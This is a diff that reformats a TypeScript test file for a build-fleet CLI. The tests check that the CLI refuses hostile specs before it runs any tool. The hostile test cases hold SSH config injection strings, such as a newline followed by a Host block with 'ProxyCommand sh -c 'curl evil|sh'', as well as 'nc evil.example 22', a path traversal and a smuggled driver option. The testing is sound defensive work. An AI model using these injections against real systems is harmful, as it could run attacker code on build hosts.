@@ -11,7 +11,13 @@ import { Fleet } from "../components/fleet";
 import { parseConfig } from "../config/schema";
 import { ssmProxyCommand } from "../runner/readinessSteps";
 import { smokeTestSpecBytes } from "../config/sizes";
-import { ensureInputSchema, indexExpectationSchema, parseSpec, readinessSpecSchema, smokeTestSpecSchema } from "../runner/specs";
+import {
+    ensureInputSchema,
+    indexExpectationSchema,
+    parseSpec,
+    readinessSpecSchema,
+    smokeTestSpecSchema,
+} from "../runner/specs";
 import { compileModules } from "./compiled";
 import { context, makeProject, validConfig } from "./fixtures";
 import { ED25519_HOST } from "./keyFixtures";
@@ -22,16 +28,44 @@ const DIGEST = `sha256:${"a".repeat(64)}`;
 
 const readiness = () => ({
     target: { address: "192.0.2.20", port: 22, user: "Builder", hostKey: ED25519_HOST, hostKeyAlias: "static-rack-1" },
-    connectTimeoutSeconds: 60, persistentFaultSeconds: 0,
+    connectTimeoutSeconds: 60,
+    persistentFaultSeconds: 0,
     steps: [{ name: "docker-check", script: "docker info\n", args: ["x"] }],
 });
 const node = () => ({
-    host: "rack-1", node: "fleet-rack-1", alias: "rack-1.fleet.invalid", address: "192.0.2.20", port: 22, user: "builder", hostKey: ED25519_HOST,
-    hostKeyAlias: "static-rack-1", platforms: ["linux/arm64"], stackPlatforms: ["linux/arm64"], driverOptions: { "env.BUILDKIT_STEP_LOG_MAX_SIZE": "10485760" },
+    host: "rack-1",
+    node: "fleet-rack-1",
+    alias: "rack-1.fleet.invalid",
+    address: "192.0.2.20",
+    port: 22,
+    user: "builder",
+    hostKey: ED25519_HOST,
+    hostKeyAlias: "static-rack-1",
+    platforms: ["linux/arm64"],
+    stackPlatforms: ["linux/arm64"],
+    driverOptions: { "env.BUILDKIT_STEP_LOG_MAX_SIZE": "10485760" },
 });
-const ensure = () => ({ spec: { name: "fleet", owner: "native-build-fleet/dev", nodes: [node()] }, privateKey: "-----BEGIN OPENSSH PRIVATE KEY-----\nk\n-----END OPENSSH PRIVATE KEY-----\n" });
-const smoke = () => ({ registry: "127.0.0.1:5000", tests: [{ builder: "fleet-rack-1", platform: "linux/arm64", ref: `127.0.0.1:5000/ci/app@${DIGEST}`, command: ["uname", "-m"], expect: { lines: ["aarch64"] } }] });
-const index = () => ({ registry: "127.0.0.1:5000", refs: [`127.0.0.1:5000/ci/app:latest@${DIGEST}`], platforms: { "linux/arm64": DIGEST } });
+const ensure = () => ({
+    spec: { name: "fleet", owner: "native-build-fleet/dev", nodes: [node()] },
+    privateKey: "-----BEGIN OPENSSH PRIVATE KEY-----\nk\n-----END OPENSSH PRIVATE KEY-----\n",
+});
+const smoke = () => ({
+    registry: "127.0.0.1:5000",
+    tests: [
+        {
+            builder: "fleet-rack-1",
+            platform: "linux/arm64",
+            ref: `127.0.0.1:5000/ci/app@${DIGEST}`,
+            command: ["uname", "-m"],
+            expect: { lines: ["aarch64"] },
+        },
+    ],
+});
+const index = () => ({
+    registry: "127.0.0.1:5000",
+    refs: [`127.0.0.1:5000/ci/app:latest@${DIGEST}`],
+    platforms: { "linux/arm64": DIGEST },
+});
 
 type Mode = "readiness" | "register" | "smoke-test" | "verify-index";
 /** [name, mode, spec after a hostile change, key path and message fragment]. */
@@ -44,28 +78,182 @@ function changed<T>(make: () => T, change: (v: any) => void): T {
 }
 
 const hostile: Case[] = [
-    ["a newline and a Host block in the address", "readiness", changed(readiness, (s) => { s.target.address = "192.0.2.20\nHost *\n  ProxyCommand sh -c 'curl evil|sh'"; }), "target.address: \"192.0.2.20\nHost *"],
-    ["an address that is an ssh option", "readiness", changed(readiness, (s) => { s.target.address = "-oProxyCommand=touch"; }), "target.address: \"-oProxyCommand=touch\" starts with '-'"],
-    ["a newline in the user", "readiness", changed(readiness, (s) => { s.target.user = "builder\nHost *"; }), "target.user: must be a Linux user name"],
-    ["a newline in the host key alias", "readiness", changed(readiness, (s) => { s.target.hostKeyAlias = "i-0abc\n  ProxyCommand x"; }), "target.hostKeyAlias: must be letters, digits"],
-    ["a proxy command of someone else's", "readiness", changed(readiness, (s) => { s.target.proxyCommand = "sh -c 'curl evil | sh'"; }), "target.proxyCommand: must be the program's SSM session command"],
-    ["the SSM proxy command with a block after it", "readiness", changed(readiness, (s) => { s.target.proxyCommand = `${ssmProxyCommand("eu-north-1")}\nHost *`; }), "target.proxyCommand: must be the program's SSM session command"],
-    ["two host key lines", "readiness", changed(readiness, (s) => { s.target.hostKey = `${ED25519_HOST}\n${ED25519_HOST}`; }), "target.hostKey: must be one OpenSSH public key line"],
-    ["port 0", "readiness", changed(readiness, (s) => { s.target.port = 0; }), "target.port:"],
-    ["a NUL in a script argument", "readiness", changed(readiness, (s) => { s.steps[0].args = ["a\0b"]; }), "steps.0.args.0: must not contain NUL bytes"],
-    ["a key the spec does not have", "readiness", changed(readiness, (s) => { s.target.identityFile = "/root/.ssh/id_rsa"; }), "target: Unrecognized key"],
-    ["a Host block in a node's alias", "register", changed(ensure, (s) => { s.spec.nodes[0].alias = "rack-1.fleet\nHost *"; }), "spec.nodes.0.alias: must be letters, digits"],
-    ["an ssh pattern as a node's alias", "register", changed(ensure, (s) => { s.spec.nodes[0].alias = "*"; }), "spec.nodes.0.alias: must be letters, digits"],
-    ["a newline in a node's address", "register", changed(ensure, (s) => { s.spec.nodes[0].address = "192.0.2.20\n  IdentityFile ~/.ssh/id_rsa"; }), "spec.nodes.0.address: "],
-    ["a newline in a node's user", "register", changed(ensure, (s) => { s.spec.nodes[0].user = "b\nHost *"; }), "spec.nodes.0.user: must be a Linux user name"],
-    ["a node proxy command of someone else's", "register", changed(ensure, (s) => { s.spec.nodes[0].proxyCommand = "nc evil.example 22"; }), "spec.nodes.0.proxyCommand: must be the program's SSM session command"],
-    ["a comma in a driver option", "register", changed(ensure, (s) => { s.spec.nodes[0].driverOptions = { network: "host,image=evil" }; }), "spec.nodes.0.driverOptions.network: must not contain commas"],
-    ["a newline in the owner", "register", changed(ensure, (s) => { s.spec.owner = "a/b\nc"; }), "spec.owner: must be <project>/<stack> on one line"],
-    ["a builder name with a path in it", "register", changed(ensure, (s) => { s.spec.name = "../../etc"; }), "spec.name: must be lowercase letters"],
-    ["a smoke-test ref without a digest", "smoke-test", changed(smoke, (s) => { s.tests[0].ref = "127.0.0.1:5000/ci/app:latest"; }), "tests.0.ref: must be <repository>@sha256:<digest>"],
-    ["a registry with a newline", "smoke-test", changed(smoke, (s) => { s.registry = "127.0.0.1:5000\n"; }), "registry: must be a registry host[:port]"],
-    ["an index digest that is no digest", "verify-index", changed(index, (s) => { s.platforms["linux/arm64"] = "latest"; }), "platforms.linux/arm64: must be a sha256 digest"],
-    ["an index ref without a tag", "verify-index", changed(index, (s) => { s.refs = [`127.0.0.1:5000/ci/app@${DIGEST}`]; }), "refs.0: must be <repository>:<tag>@sha256:<digest>"],
+    [
+        "a newline and a Host block in the address",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.address = "192.0.2.20\nHost *\n  ProxyCommand sh -c 'curl evil|sh'";
+        }),
+        'target.address: "192.0.2.20\nHost *',
+    ],
+    [
+        "an address that is an ssh option",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.address = "-oProxyCommand=touch";
+        }),
+        "target.address: \"-oProxyCommand=touch\" starts with '-'",
+    ],
+    [
+        "a newline in the user",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.user = "builder\nHost *";
+        }),
+        "target.user: must be a Linux user name",
+    ],
+    [
+        "a newline in the host key alias",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.hostKeyAlias = "i-0abc\n  ProxyCommand x";
+        }),
+        "target.hostKeyAlias: must be letters, digits",
+    ],
+    [
+        "a proxy command of someone else's",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.proxyCommand = "sh -c 'curl evil | sh'";
+        }),
+        "target.proxyCommand: must be the program's SSM session command",
+    ],
+    [
+        "the SSM proxy command with a block after it",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.proxyCommand = `${ssmProxyCommand("eu-north-1")}\nHost *`;
+        }),
+        "target.proxyCommand: must be the program's SSM session command",
+    ],
+    [
+        "two host key lines",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.hostKey = `${ED25519_HOST}\n${ED25519_HOST}`;
+        }),
+        "target.hostKey: must be one OpenSSH public key line",
+    ],
+    [
+        "port 0",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.port = 0;
+        }),
+        "target.port:",
+    ],
+    [
+        "a NUL in a script argument",
+        "readiness",
+        changed(readiness, (s) => {
+            s.steps[0].args = ["a\0b"];
+        }),
+        "steps.0.args.0: must not contain NUL bytes",
+    ],
+    [
+        "a key the spec does not have",
+        "readiness",
+        changed(readiness, (s) => {
+            s.target.identityFile = "/root/.ssh/id_rsa";
+        }),
+        "target: Unrecognized key",
+    ],
+    [
+        "a Host block in a node's alias",
+        "register",
+        changed(ensure, (s) => {
+            s.spec.nodes[0].alias = "rack-1.fleet\nHost *";
+        }),
+        "spec.nodes.0.alias: must be letters, digits",
+    ],
+    [
+        "an ssh pattern as a node's alias",
+        "register",
+        changed(ensure, (s) => {
+            s.spec.nodes[0].alias = "*";
+        }),
+        "spec.nodes.0.alias: must be letters, digits",
+    ],
+    [
+        "a newline in a node's address",
+        "register",
+        changed(ensure, (s) => {
+            s.spec.nodes[0].address = "192.0.2.20\n  IdentityFile ~/.ssh/id_rsa";
+        }),
+        "spec.nodes.0.address: ",
+    ],
+    [
+        "a newline in a node's user",
+        "register",
+        changed(ensure, (s) => {
+            s.spec.nodes[0].user = "b\nHost *";
+        }),
+        "spec.nodes.0.user: must be a Linux user name",
+    ],
+    [
+        "a node proxy command of someone else's",
+        "register",
+        changed(ensure, (s) => {
+            s.spec.nodes[0].proxyCommand = "nc evil.example 22";
+        }),
+        "spec.nodes.0.proxyCommand: must be the program's SSM session command",
+    ],
+    [
+        "a comma in a driver option",
+        "register",
+        changed(ensure, (s) => {
+            s.spec.nodes[0].driverOptions = { network: "host,image=evil" };
+        }),
+        "spec.nodes.0.driverOptions.network: must not contain commas",
+    ],
+    [
+        "a newline in the owner",
+        "register",
+        changed(ensure, (s) => {
+            s.spec.owner = "a/b\nc";
+        }),
+        "spec.owner: must be <project>/<stack> on one line",
+    ],
+    [
+        "a builder name with a path in it",
+        "register",
+        changed(ensure, (s) => {
+            s.spec.name = "../../etc";
+        }),
+        "spec.name: must be lowercase letters",
+    ],
+    [
+        "a smoke-test ref without a digest",
+        "smoke-test",
+        changed(smoke, (s) => {
+            s.tests[0].ref = "127.0.0.1:5000/ci/app:latest";
+        }),
+        "tests.0.ref: must be <repository>@sha256:<digest>",
+    ],
+    [
+        "a registry with a newline",
+        "smoke-test",
+        changed(smoke, (s) => {
+            s.registry = "127.0.0.1:5000\n";
+        }),
+        "registry: must be a registry host[:port]",
+    ],
+    [
+        "an index digest that is no digest",
+        "verify-index",
+        changed(index, (s) => {
+            s.platforms["linux/arm64"] = "latest";
+        }),
+        "platforms.linux/arm64: must be a sha256 digest",
+    ],
+    [
+        "an index ref without a tag",
+        "verify-index",
+        changed(index, (s) => {
+            s.refs = [`127.0.0.1:5000/ci/app@${DIGEST}`];
+        }),
+        "refs.0: must be <repository>:<tag>@sha256:<digest>",
+    ],
 ];
 
 /** A PATH of its own whose ssh, docker and aws only record that they ran, in `ran`. */
@@ -87,25 +275,39 @@ beforeAll(() => {
 });
 afterAll(() => fs.rmSync(built, { recursive: true, force: true }));
 
-interface Outcome { status: number | null; stderr: string; ran: boolean }
+interface Outcome {
+    status: number | null;
+    stderr: string;
+    ran: boolean;
+}
 
 /** Runs the entry point in `mode` with a stub PATH of its own; resolves once it exited. */
 function runCli(mode: Mode, spec: unknown): Promise<Outcome> {
     const viaStdin = mode === "register";
     const { bin, ran } = stubBin();
     return new Promise((resolve, reject) => {
-        const child = execFile(process.execPath, [cli, mode], {
-            encoding: "utf8", timeout: 60000,
-            env: { PATH: `${bin}${path.delimiter}${path.dirname(process.execPath)}`, HOME: bin, ...(viaStdin ? {} : { NBF_SPEC: JSON.stringify(spec) }) },
-        }, (error, _stdout, stderr) => {
-            const toolRan = fs.existsSync(ran);
-            fs.rmSync(bin, { recursive: true, force: true });
-            if (error && typeof error.code !== "number") {
-                reject(new Error(`the runner did not exit by itself: ${error.message}`));
-                return;
-            }
-            resolve({ status: error ? Number(error.code) : 0, stderr, ran: toolRan });
-        });
+        const child = execFile(
+            process.execPath,
+            [cli, mode],
+            {
+                encoding: "utf8",
+                timeout: 60000,
+                env: {
+                    PATH: `${bin}${path.delimiter}${path.dirname(process.execPath)}`,
+                    HOME: bin,
+                    ...(viaStdin ? {} : { NBF_SPEC: JSON.stringify(spec) }),
+                },
+            },
+            (error, _stdout, stderr) => {
+                const toolRan = fs.existsSync(ran);
+                fs.rmSync(bin, { recursive: true, force: true });
+                if (error && typeof error.code !== "number") {
+                    reject(new Error(`the runner did not exit by itself: ${error.message}`));
+                    return;
+                }
+                resolve({ status: error ? Number(error.code) : 0, stderr, ran: toolRan });
+            },
+        );
         child.stdin?.end(viaStdin ? JSON.stringify(spec) : "ci:password");
     });
 }
@@ -121,7 +323,9 @@ describe("the real entry point refuses a hostile spec before running anything", 
     test.each(hostile.map((c): [string, Case] => [c[0], c]))("%s", (_, [name, mode, , fragment]) => {
         const { status, stderr, ran } = outcomes.get(name)!;
         expect(status).toBe(1);
-        expect(stderr).toContain(`${mode === "register" ? "standard input" : "NBF_SPEC"} is refused, so nothing was run: `);
+        expect(stderr).toContain(
+            `${mode === "register" ? "standard input" : "NBF_SPEC"} is refused, so nothing was run: `,
+        );
         expect(stderr).toContain(fragment);
         expect(ran).toBe(false);
     });
@@ -129,7 +333,9 @@ describe("the real entry point refuses a hostile spec before running anything", 
     test("standard input that is not JSON is refused without repeating it", () => {
         const { bin } = stubBin();
         const result = spawnSync(process.execPath, [cli, "register"], {
-            encoding: "utf8", input: "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material", env: { PATH: bin },
+            encoding: "utf8",
+            input: "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material",
+            env: { PATH: bin },
         });
         fs.rmSync(bin, { recursive: true, force: true });
         expect(result.status).toBe(1);
@@ -141,10 +347,29 @@ describe("the real entry point refuses a hostile spec before running anything", 
 describe("the specs are well-formed as written here", () => {
     test.each([
         ["readiness", readinessSpecSchema, readiness()],
-        ["readiness through SSM", readinessSpecSchema, changed(readiness, (s) => { s.target.address = "i-0123456789abcdef0"; s.target.proxyCommand = ssmProxyCommand("eu-north-1"); })],
+        [
+            "readiness through SSM",
+            readinessSpecSchema,
+            changed(readiness, (s) => {
+                s.target.address = "i-0123456789abcdef0";
+                s.target.proxyCommand = ssmProxyCommand("eu-north-1");
+            }),
+        ],
         ["register", ensureInputSchema, ensure()],
-        ["a host key whose comment follows a tab", readinessSpecSchema, changed(readiness, (s) => { s.target.hostKey = `${ED25519_HOST.split(" ").slice(0, 2).join(" ")}\troot@rack-1`; })],
-        ["register with idle hosts in a new partition", ensureInputSchema, changed(ensure, (s) => { s.spec.wake = { instanceIds: ["i-0123456789abcdef0"], region: "eusc-de-east-1" }; })],
+        [
+            "a host key whose comment follows a tab",
+            readinessSpecSchema,
+            changed(readiness, (s) => {
+                s.target.hostKey = `${ED25519_HOST.split(" ").slice(0, 2).join(" ")}\troot@rack-1`;
+            }),
+        ],
+        [
+            "register with idle hosts in a new partition",
+            ensureInputSchema,
+            changed(ensure, (s) => {
+                s.spec.wake = { instanceIds: ["i-0123456789abcdef0"], region: "eusc-de-east-1" };
+            }),
+        ],
         ["smoke-test", smokeTestSpecSchema, smoke()],
         ["verify-index", indexExpectationSchema, index()],
     ] as [string, any, unknown][])("%s", (_, schema, spec) => {
@@ -155,18 +380,37 @@ describe("the specs are well-formed as written here", () => {
 describe("every spec the program's components write is accepted", () => {
     const root = makeProject();
     const raw = validConfig() as Record<string, any>;
-    raw.staticHosts = [{ name: "rack-1", address: "2001:db8::20", user: "Builder", platforms: ["linux/arm64"], hostKey: ED25519_HOST, driverOptions: { "cpuset-cpus": "0-3" } }];
+    raw.staticHosts = [
+        {
+            name: "rack-1",
+            address: "2001:db8::20",
+            user: "Builder",
+            platforms: ["linux/arm64"],
+            hostKey: ED25519_HOST,
+            driverOptions: { "cpuset-cpus": "0-3" },
+        },
+    ];
     raw.images[0].test = { command: ["/app", "--version"], expect: "ok on {{platform}}" };
     const config = parseConfig(raw, context(root));
     beforeAll(async () => {
-        const fleet = new Fleet("fleet", { config, project: "native-build-fleet", stack: "dev", sshPrivateKey: pulumi.secret("-----BEGIN OPENSSH PRIVATE KEY-----\nk\n-----END OPENSSH PRIVATE KEY-----\n"), labels: {} });
+        const fleet = new Fleet("fleet", {
+            config,
+            project: "native-build-fleet",
+            stack: "dev",
+            sshPrivateKey: pulumi.secret("-----BEGIN OPENSSH PRIVATE KEY-----\nk\n-----END OPENSSH PRIVATE KEY-----\n"),
+            labels: {},
+        });
         await valueOf(fleet.images);
         await settled(mocks.resources);
     });
     const commands = () => mocks.resources.filter((r) => r.type === "command:local:Command");
 
     test("readiness, smoke-test and verify-index specs", () => {
-        const schemas: Record<string, any> = { readiness: readinessSpecSchema, "smoke-test": smokeTestSpecSchema, "verify-index": indexExpectationSchema };
+        const schemas: Record<string, any> = {
+            readiness: readinessSpecSchema,
+            "smoke-test": smokeTestSpecSchema,
+            "verify-index": indexExpectationSchema,
+        };
         const checked = commands().flatMap((c) => {
             const mode = /cli\.js ([a-z-]+)$/.exec(String(c.inputs.create))?.[1] ?? "";
             const spec = unwrapSecrets(c.inputs.environment)?.NBF_SPEC as string | undefined;
@@ -179,16 +423,24 @@ describe("every spec the program's components write is accepted", () => {
     test("config/sizes.ts's bound on the smoke test's NBF_SPEC is at least what the component writes", () => {
         const smoke = commands().filter((c) => /cli\.js smoke-test$/.test(String(c.inputs.create)));
         expect(smoke.length).toBe(1);
-        const written = "NBF_SPEC=".length + Buffer.byteLength(String(unwrapSecrets(smoke[0].inputs.environment).NBF_SPEC)) + 1;
+        const written =
+            "NBF_SPEC=".length + Buffer.byteLength(String(unwrapSecrets(smoke[0].inputs.environment).NBF_SPEC)) + 1;
         const host = "r".repeat(63);
-        expect(written).toBeLessThanOrEqual(smokeTestSpecBytes(config.images[0], `${host}/${config.images[0].name}`, host));
+        expect(written).toBeLessThanOrEqual(
+            smokeTestSpecBytes(config.images[0], `${host}/${config.images[0].name}`, host),
+        );
     });
 
     test("the builders' standard input", () => {
-        const inputs = commands().filter((c) => /cli\.js (preview|update|register)$/.test(String(c.inputs.create ?? c.inputs.update ?? "")));
+        const inputs = commands().filter((c) =>
+            /cli\.js (preview|update|register)$/.test(String(c.inputs.create ?? c.inputs.update ?? "")),
+        );
         expect(inputs.length).toBeGreaterThanOrEqual(1);
         for (const c of inputs) {
-            expect([c.name, parseSpec(ensureInputSchema, String(unwrapSecrets(c.inputs.stdin)), "standard input")]).toEqual([c.name, expect.objectContaining({ ok: true })]);
+            expect([
+                c.name,
+                parseSpec(ensureInputSchema, String(unwrapSecrets(c.inputs.stdin)), "standard input"),
+            ]).toEqual([c.name, expect.objectContaining({ ok: true })]);
         }
     });
 });
